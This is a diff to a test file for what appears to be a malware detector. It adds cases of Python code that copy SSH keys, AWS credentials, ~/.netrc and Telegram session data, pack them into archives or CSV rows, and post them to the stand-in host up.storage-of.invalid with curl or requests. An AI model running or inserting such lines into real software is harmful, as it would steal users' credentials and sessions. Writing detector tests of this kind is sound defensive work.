@@ -27,6 +27,52 @@ describe('what is gathered in a place and sent from there is malware', () => {
       ],
     ],
     [
+      'a folder of temporary files into which another is copied',
+      [
+        'd = tempfile.mkdtemp()',
+        "shutil.copytree(os.path.expanduser('~/.ssh'), os.path.join(d, 's'))",
+        "box = shutil.make_archive(d, 'zip', d)",
+        SEND,
+      ],
+    ],
+    [
+      'the archive that a call gives the path of, sent by a program',
+      [
+        'd = tempfile.mkdtemp()',
+        "shutil.copy(os.path.expanduser('~/.aws/credentials'), d)",
+        "box = shutil.make_archive(d, 'zip', d)",
+        "subprocess.Popen(['curl', '-s', '-F', 'file=@' + box, 'https://up.storage-of.invalid/x'])",
+      ],
+    ],
+    [
+      'a walk through a folder of a variable that may not be set',
+      [
+        "place = os.path.join(os.environ.get('APPDATA', ''), 'Telegram Desktop', 'tdata')",
+        'box = io.BytesIO()',
+        "with zipfile.ZipFile(box, 'w') as z:",
+        '    for folder, _, names in os.walk(place):',
+        '        for name in names: z.write(os.path.join(folder, name))',
+        "requests.post('https://up.storage-of.invalid/x', files={'f': box})",
+      ],
+    ],
+    [
+      'rows of a table in memory',
+      [
+        'import csv',
+        'box = io.StringIO()',
+        "csv.writer(box).writerow(['key', open(os.path.expanduser('~/.ssh/id_rsa')).read()])",
+        "requests.post('https://up.storage-of.invalid/x', data=box.getvalue())",
+      ],
+    ],
+    [
+      'rows of a table on disk',
+      [
+        'import csv',
+        "with open('/tmp/rows.csv', 'w') as f: csv.writer(f).writerows([[open(os.path.expanduser('~/.netrc')).read()]])",
+        "requests.post('https://up.storage-of.invalid/x', data=open('/tmp/rows.csv').read())",
+      ],
+    ],
+    [
       'a walk through the folder',
       [
         'd = tempfile.mkdtemp()',
